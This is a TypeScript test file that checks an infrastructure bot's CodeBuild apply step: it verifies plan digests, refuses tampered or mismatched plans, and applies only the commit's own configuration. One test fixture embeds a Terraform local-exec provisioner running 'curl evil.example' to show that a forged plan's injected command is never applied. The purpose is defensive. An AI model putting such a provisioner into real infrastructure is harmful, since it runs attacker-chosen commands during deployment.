import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sha256Hex } from '../../../core/jobs/plan-digest';
import { APPLY_ROLE, stack } from '../../support/run-spec';
import { standInPlanOf } from '../../support/stand-in-plan-file';
import { commandLine } from '../../support/stand-ins';
import { BUCKET, runCodeBuild, STANDIN_PLAN } from './codebuild-harness';

const net = stack({ name: 'aws/prod/net', dir: 'stacks/net' });
const applyJob = { id: 'j-cb-apply', action: 'apply' as const, planJobId: 'j-cb-plan' };
/** The plan job's saved plan in the bucket. */
const savedPlan = { 'jobs/j-cb-plan/tfplan': STANDIN_PLAN };

describe('buildspecs/apply.yml in CodeBuild', () => {
  it('checks the plan job’s saved plan, plans the commit again as the stack apply role, and applies that plan', async () => {
    // Act
    const run = await runCodeBuild(net, { job: applyJob, s3Objects: savedPlan });

    // Assess
    expect(run.result).toEqual({ ok: true });
    expect(run.calls.map(commandLine)).toEqual([
      'terraform -chdir=stacks/net init -input=false -no-color',
      `terraform -chdir=stacks/net plan -input=false -lock-timeout=5m -out=${run.workDir}/plan/applied.tfplan -detailed-exitcode -no-color`,
      `terraform -chdir=stacks/net show -json ${run.workDir}/plan/applied.tfplan`,
      `terraform -chdir=stacks/net apply -input=false -lock-timeout=5m -no-color ${run.workDir}/plan/applied.tfplan`,
    ]);
    expect(readFileSync(join(run.workDir, 'plan/tfplan'))).toEqual(STANDIN_PLAN);
    expect(readFileSync(join(run.workDir, 'aws-config'), 'utf8')).toContain(`role_arn = ${APPLY_ROLE}\n`);
    expect(run.calls.every((call) => call.env.AWS_PROFILE === 'stack')).toBe(true);
    expect(run.s3('jobs/j-cb-apply/log.txt')).toContain('Apply complete!');
  });

  it('is given a URL to read exactly the plan it applies and to write only its own log', async () => {
    // Act
    const run = await runCodeBuild(net, { job: applyJob, s3Objects: savedPlan });

    // Assess
    const urls = Object.entries(run.env).filter(([name]) => /^INFRABOT_(GET|PUT)_/.test(name));
    expect(urls.map(([name, url]) => [name, new URL(String(url)).pathname])).toEqual([
      ['INFRABOT_PUT_LOG', `/${BUCKET}/jobs/j-cb-apply/log.txt`],
      ['INFRABOT_GET_PLAN', `/${BUCKET}/jobs/j-cb-plan/tfplan`],
    ]);
    expect(run.env.INFRABOT_PLAN_DIGEST).toBe(sha256Hex(STANDIN_PLAN));
  });

  it('refuses a saved plan changed in S3 after its plan ended, and never calls terraform apply', async () => {
    // Act: the plan recorded the digest of the stand-in plan; the bucket now holds another file
    const run = await runCodeBuild(net, { job: applyJob, s3Objects: { 'jobs/j-cb-plan/tfplan': 'forged plan' } });

    // Assess
    expect(run.result).toMatchObject({ ok: false, exitCode: 1 });
    expect(run.calls.map(commandLine)).toEqual(['terraform -chdir=stacks/net init -input=false -no-color']);
    const log = run.s3('jobs/j-cb-apply/log.txt');
    expect(log).toContain(
      `infrabot: refusing to apply: the saved plan changed after its plan ended (SHA-256 ${sha256Hex('forged plan')}, recorded ${sha256Hex(STANDIN_PLAN)})`,
    );
  });

  it('applies the commit’s own configuration, never one saved in the plan file, with the reviewed changes and digest', async () => {
    // Prepare: the plan build saved (and the bot recorded the digest of) a plan of a configuration with a provisioner
    const provisioned = standInPlanOf({
      'main.tf':
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }\n}\n',
    });

    // Act
    const run = await runCodeBuild(net, {
      job: applyJob,
      s3Objects: { 'jobs/j-cb-plan/tfplan': provisioned },
      planDigest: sha256Hex(provisioned),
    });

    // Assess: what was applied is the plan this build made of the checkout, which holds no provisioner
    expect(run.result).toEqual({ ok: true });
    expect(run.calls.map(commandLine).at(-1)).toBe(
      `terraform -chdir=stacks/net apply -input=false -lock-timeout=5m -no-color ${run.workDir}/plan/applied.tfplan`,
    );
    expect(readFileSync(join(run.workDir, 'plan/applied.tfplan'), 'latin1')).not.toContain('provisioner');
  });

  it('refuses when the dispatcher says the plan was made at another commit', async () => {
    // Act
    const run = await runCodeBuild(net, {
      job: applyJob,
      s3Objects: savedPlan,
      env: { INFRABOT_PLAN_SHA: 'b'.repeat(40) },
    });

    // Assess
    expect(run.result).toMatchObject({ ok: false, exitCode: 1 });
    expect(run.calls).toEqual([]);
    expect(run.s3('jobs/j-cb-apply/log.txt')).toContain(`refusing to apply: the plan was made at ${'b'.repeat(40)}`);
  });

  it('fails when the plan job left no saved plan', async () => {
    // Act
    const run = await runCodeBuild(net, { job: applyJob });

    // Assess
    expect(run.result).toMatchObject({ ok: false });
    expect(run.calls.filter((call) => call.tool === 'terraform')).toEqual([]);
    expect(run.output).toContain('curl: (22)');
  });

  it('fails the build when the apply fails', async () => {
    // Act
    const run = await runCodeBuild(net, { job: applyJob, s3Objects: savedPlan, env: { STANDIN_EXIT_APPLY: '1' } });

    // Assess
    expect(run.result).toMatchObject({ ok: false, phase: 'build', exitCode: 1 });
    expect(run.s3('jobs/j-cb-apply/log.txt')).toContain('Error: stand-in apply failed');
  });
});
